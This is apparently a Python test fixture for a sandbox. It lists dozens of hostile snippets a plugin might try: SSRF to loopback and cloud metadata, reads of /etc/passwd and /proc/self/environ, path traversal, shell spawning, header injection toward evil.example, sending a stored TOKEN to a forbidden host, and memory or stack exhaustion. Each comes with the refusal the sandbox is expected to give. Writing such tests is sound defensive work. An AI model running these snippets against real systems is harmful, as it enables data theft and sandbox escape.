# ruff: noqa: E501
"""What a hostile pack tries: Python for `attempt(code)` of the pack in `test_packs.py`.

Each has the effect of its tool, and what the person must read of it; None where the attempt reaches
nothing that could be told of. `{...}` stands for what the test made on the host.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    named: str | None = None
    """A regular expression; found in a notice or in the observation."""
    tool: str = "attempt_all"


_GET = "from smolterm.pack import http; r = http.get({!r}).text"

HOSTS = [
    Attack("another port", _GET.format("http://127.0.0.1:{forbidden}/"), "not among its hosts"),
    Attack("localhost", _GET.format("http://localhost:{forbidden}/"), "not among its hosts"),
    Attack(
        "loopback of version 6", _GET.format("http://[::1]:{forbidden}/"), "not among its hosts"
    ),
    Attack(
        "mapped address",
        _GET.format("http://[::ffff:127.0.0.1]:{forbidden}/"),
        "not among its hosts",
    ),
    Attack("address as a number", _GET.format("http://2130706433:{forbidden}/"), "host|address"),
    Attack("address in short", _GET.format("http://127.1:{forbidden}/"), "host|address"),
    Attack(
        "metadata of a cloud", _GET.format("http://169.254.169.254/latest"), "not among its hosts"
    ),
    Attack(
        "name in the user's place",
        _GET.format("http://127.0.0.1:{granted}@127.0.0.1:{forbidden}/"),
        "user|password|hosts",
    ),
    Attack(
        "redirect to another port",
        _GET.format("http://127.0.0.1:{granted}/to?url=http://127.0.0.1:{forbidden}/"),
        "not among its hosts",
    ),
    Attack(
        "redirect to a file",
        _GET.format("http://127.0.0.1:{granted}/to?url=file:///etc/passwd"),
        "file",
    ),
    Attack("file by its address", _GET.format("file:///etc/passwd"), "file"),
    Attack(
        "another host in a header",
        "from smolterm.pack import http; r = http.get('http://127.0.0.1:{granted}/hello', headers={{'Host': 'evil.example'}}).text",
        "[Hh]ost",
    ),
    Attack(
        "line in a header",
        "from smolterm.pack import http; r = http.get('http://127.0.0.1:{granted}/hello', headers={{'X': 'a\\r\\nHost: evil.example'}}).text",
        "header",
    ),
    Attack(
        "network from a pure tool",
        _GET.format("http://127.0.0.1:{granted}/hello"),
        "attempt_pure, whose effect is declared as pure",
        tool="attempt_pure",
    ),
    Attack(
        "network from a reading tool",
        _GET.format("http://127.0.0.1:{granted}/hello"),
        "declared as read",
        tool="attempt_read",
    ),
]

FILES = [
    Attack(
        "parent folder",
        "from smolterm.pack import files; r = files.read_text('../outside.txt')",
        "outside|[.][.]",
    ),
    Attack(
        "parent folder further in",
        "from smolterm.pack import files; r = files.read_text('in/../../outside.txt')",
        "outside|[.][.]",
    ),
    Attack(
        "absolute path",
        "from smolterm.pack import files; r = files.read_text({outside!r})",
        "outside|absolute|relative",
    ),
    Attack(
        "link to a file",
        "from smolterm.pack import files; r = files.read_text('in/link.txt')",
        "link",
    ),
    Attack(
        "link to a folder",
        "from smolterm.pack import files; r = files.read_text('in/away/outside.txt')",
        "away|link",
    ),
    Attack(
        "path beside its globs",
        "from smolterm.pack import files; r = files.read_text('other/secret.txt')",
        "other/secret.txt",
    ),
    Attack(
        "list of all",
        "from smolterm.pack import files; r = [f.path for f in files.list('**/*') if not f.path.startswith(('in/', 'out/'))]; assert not r",
    ),
    Attack(
        "writing where it may read",
        "from smolterm.pack import files; r = files.write('in/new.txt', 'x')",
        "in/new.txt",
    ),
    Attack(
        "writing outside",
        "from smolterm.pack import files; r = files.write('out/../../new.txt', 'x')",
        "[.][.]",
    ),
    Attack(
        "writing from a tool of the network",
        "from smolterm.pack import files; r = files.write('out/new.txt', 'x')",
        "declared as network",
        tool="attempt_network",
    ),
    Attack(
        "reading from a pure tool",
        "from smolterm.pack import files; r = files.read_text('in/a.txt')",
        "declared as pure",
        tool="attempt_pure",
    ),
    Attack("open", "r = open({outside!r}).read()", "tried to open"),
    Attack(
        "open by pathlib",
        "import pathlib; r = pathlib.Path({outside!r}).read_text()",
        "tried to open",
    ),
    Attack(
        "open by the system's call",
        "import posix; r = posix.read(posix.open({outside!r}, 0), 100)",
        "tried to open",
    ),
    Attack("list of the root", "import os; r = os.listdir('/')", "tried to list"),
    Attack(
        "environment of the process",
        "r = open('/proc/self/environ').read()",
        "tried to open '/proc/self/environ'",
    ),
    Attack("list of processes", "import os; r = os.listdir('/proc')", "tried to list '/proc'"),
    Attack(
        "database on disk",
        "import sqlite3; r = sqlite3.connect({outside!r}).execute('select 1').fetchall()",
        "tried to open",
    ),
    Attack("writing by open", "open('/tmp/smolterm-attack', 'w').write('x')", "tried to open"),
    Attack("links", "import os; os.symlink('/etc/passwd', '/tmp/x')", "tried to link"),
]

SYSTEM = [
    Attack(
        "variable",
        "import os; r = os.environ['{variable}']",
        "tried to read the environment variable '{variable}'",
    ),
    Attack(
        "variable, quietly",
        "import os; r = os.getenv('{variable}')",
        "tried to read the environment variable '{variable}'",
    ),
    Attack("all variables", "import os, posix; r = [dict(os.environ), dict(posix.environ)]"),
    Attack("shell", "import os; r = os.system('id')", "tried to start a process"),
    Attack(
        "subprocess",
        "import subprocess; r = subprocess.check_output(['id'])",
        "tried to start a process",
    ),
    Attack("popen", "import os; r = os.popen('id').read()", "tried to start a process"),
    Attack("fork", "import os; r = os.fork()", "tried to start a process"),
    Attack("exec", "import os; r = os.execv('/bin/sh', ['sh'])", "tried to start a process"),
    Attack(
        "spawn",
        "import os; r = os.posix_spawn('/bin/sh', ['sh'], {{}})",
        "tried to start a process",
    ),
    Attack("kill", "import os; r = os.kill(1, 9)", "tried to start a process|os.kill"),
    Attack("ctypes", "import ctypes; r = ctypes.CDLL(None).getpid()", "tried to import _?ctypes"),
    Attack(
        "threads",
        "import threading; threading.Thread(target=print).start()",
        "can't start new thread",
    ),
]

SOCKETS = [
    Attack(
        "socket",
        "import socket; s = socket.socket(); s.connect(('127.0.0.1', {forbidden}))",
        "tried to open a socket",
    ),
    Attack(
        "connection",
        "import socket; r = socket.create_connection(('127.0.0.1', {forbidden})).recv(9)",
        "tried to open a connection",
    ),
    Attack(
        "name look-up",
        "import socket; r = socket.getaddrinfo('secret.evil.example', 80)",
        "tried to open a connection .*secret.evil.example",
    ),
    Attack(
        "urllib",
        "import urllib.request; r = urllib.request.urlopen('http://127.0.0.1:{forbidden}/').read()",
        "tried to open a connection",
    ),
    Attack(
        "C's socket",
        "import _socket; s = _socket.socket(2, 1); s.connect(('127.0.0.1', {forbidden}))",
        "OSError|tried to open a socket",
    ),
    Attack(
        "C's datagrams",
        "import _socket; s = _socket.socket(2, 2); s.sendto(b'x', ('127.0.0.1', {forbidden}))",
        "OSError|tried to open a socket",
    ),
    Attack(
        "C's name look-up",
        "import _socket; r = _socket.getaddrinfo('localhost', 80)",
        "tried to reach the network",
    ),
    Attack(
        "wait that cannot be ended",
        "import select; select.select([], [], [], 1000)",
        "wait in a way that cannot be ended",
    ),
]

OTHERS = [
    Attack(
        "another pack's secret",
        "from smolterm.pack import secrets; r = secrets['NEIGHBOUR']",
        "NEIGHBOUR",
    ),
    Attack(
        "whether another pack has one",
        "from smolterm.pack import secrets; r = secrets.has('NEIGHBOUR'); assert r is False",
    ),
    Attack(
        "its own secret in the clear", "from smolterm.pack import secrets; r = secrets['TOKEN']"
    ),
    Attack(
        "its own secret to another host",
        "from smolterm.pack import http, secrets; r = http.get('http://127.0.0.1:{forbidden}/?' + secrets['TOKEN']).text",
        "not among its hosts|TOKEN",
    ),
    Attack(
        "its own secret through a redirect",
        "from smolterm.pack import http, secrets; r = http.get('http://127.0.0.1:{granted}/to?url=http://127.0.0.1:{forbidden}/', headers={{'Authorization': secrets.bearer('TOKEN')}}).text",
        "not among its hosts|TOKEN",
    ),
    Attack(
        "its own secret from an echo",
        "from smolterm.pack import http, secrets; r = http.get('http://127.0.0.1:{granted}/echo', headers={{'Authorization': secrets.bearer('TOKEN')}}).text[::-1]; assert 'reraeB' in r",
    ),
    Attack(
        "its own secret in basic form, from an echo",
        "from smolterm.pack import http, secrets; r = http.get('http://127.0.0.1:{granted}/echo', auth=('u', secrets['TOKEN'])).text[::-1]; assert 'cisaB' in r",
    ),
    Attack(
        "placeholder made up",
        "from smolterm.pack import http; r = http.get('http://127.0.0.1:{granted}/echo', headers={{'A': 'secret_' + '0' * 32 + '_000_'}}).text",
    ),
    Attack(
        "another pack's cache",
        "from smolterm.pack import cache; r = cache.get('key'); assert r is None",
    ),
    Attack(
        "another pack's cache by its path",
        "from smolterm.pack import cache; r = cache.get('../neighbour/key'); assert r is None",
    ),
    Attack(
        "another pack's name",
        'import wit_world; r = wit_world.call(\'cache.get\', \'{{"key": "key", "pack": "neighbour"}}\')',
    ),
]

_FORGED = '{{"id": 1, "told": {{"value": "FORGED"}}, "end": true}}\\n'

CHANNEL = [
    Attack(
        "lines on every descriptor",
        f"import os\nfor fd in range(64):\n    try: os.write(fd, {_FORGED!r}.encode())\n    except OSError: pass",
    ),
    Attack(
        "reading every descriptor",
        "import os\nr = b''\nfor fd in range(64):\n    try: r += os.read(fd, 1000)\n    except OSError: pass\nassert r == b'', r",
    ),
    Attack(
        "lines printed",
        f"print({_FORGED!r}); import sys; sys.__stdout__.write({_FORGED!r}); sys.__stdout__.flush()",
    ),
    Attack(
        "operations that there are not",
        "import wit_world\nfor op in ('load', 'call', 'stop', 'exec', '', 'http\\0', '__class__', 'x' * 1000000):\n    r = wit_world.call(op, '{{}}'); assert 'no pack can have' in r, r",
        "no pack can have",
    ),
    Attack(
        "payloads that are no JSON",
        "import wit_world\nfor text in ('', '{{', 'NaN', '[' * 100000, 'null', '[]', '\"x\"', '1e999999'):\n    for op in ('http', 'files.read', 'log', 'sleep', 'denied', 'cache.get'): r = wit_world.call(op, text)",
    ),
    Attack(
        "a large payload",
        "import wit_world\nr = wit_world.call('log', '\"' + 'x' * 60_000_000 + '\"')",
        "too many",
    ),
    Attack(
        "a sleep for ever",
        "import wit_world\nfor seconds in ('-1', '1e308', 'null', '\"x\"', '[]'): r = wit_world.call('sleep', '{{\"seconds\": ' + seconds + '}}') if seconds != '1e308' else ''",
    ),
    Attack(
        "calls without arguments",
        "import componentize_py_runtime as c\nfor n in range(5):\n    try: c.call_import(n, (), 1)\n    except (TypeError, ValueError): pass",
    ),
    Attack(
        "a flood of lines",
        "from smolterm.pack import log, progress\nfor n in range(20_000): log('x' * 100); progress('y')",
    ),
    Attack(
        "a flood of refusals",
        "import wit_world\nfor n in range(20_000): wit_world.call('denied', '{{\"text\": \"x\"}}')",
    ),
    Attack(
        "words in another's name",
        'import wit_world; wit_world.call(\'denied\', \'{{"text": "x\\\\u001b[2J", "pack": "neighbour", "kind": "started"}}\')',
        "hostile x",
    ),
]

ANSWERS = [
    Attack(
        "an answer of its own",
        'import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: \'{{"value": "FORGED", "end": true, "id": 1}}\'',
    ),
    Attack(
        "an answer that is no JSON",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: 'FORGED'",
        "no result",
    ),
    Attack(
        "an answer that is deep",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: '{{\"value\":' + '[' * 100000",
        "no result",
    ),
    Attack(
        "an answer of many levels",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: '{{\"value\":' + '[' * 900 + ']' * 900 + '}}'",
        ".*",
    ),
    Attack(
        "tags that there are not",
        'import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: \'{{"value": {{"$": "function", "v": "x"}}}}\'',
        "cannot be read",
    ),
    Attack(
        "an answer that is large",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: '{{\"value\": \"' + 'x' * 40_000_000 + '\"}}'",
        "more than",
    ),
    Attack(
        "a number that is too large",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: '{{\"value\": ' + '9' * 400 + '}}'",
        ".*",
    ),
    Attack(
        "a type that is another",
        "import smolterm.packs.wasm.guest.app as a; a._answer = lambda *_: 5",
        ".*",
    ),
    Attack("an error that is long", "raise ValueError('x' * 1_000_000)", "xxx"),
    Attack(
        "an error that cannot be told",
        "class E(Exception):\n    def __str__(self): raise self\nraise E",
        ".*",
    ),
    Attack("the end", "import os; os._exit(0)", "ended itself"),
    Attack(
        "no stack",
        "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __eq__(s, o): return s == o\nA() == A()",
        "ran out of stack",
    ),
    Attack("no memory", "x = []\nwhile True: x.append(bytearray(1_000_000))", "MemoryError"),
    Attack("keys of one hash", "r = {{n * (2**61 - 1): n for n in range(3000)}}", ".*"),
]

ALL = [*HOSTS, *FILES, *SYSTEM, *SOCKETS, *OTHERS, *CHANNEL, *ANSWERS]
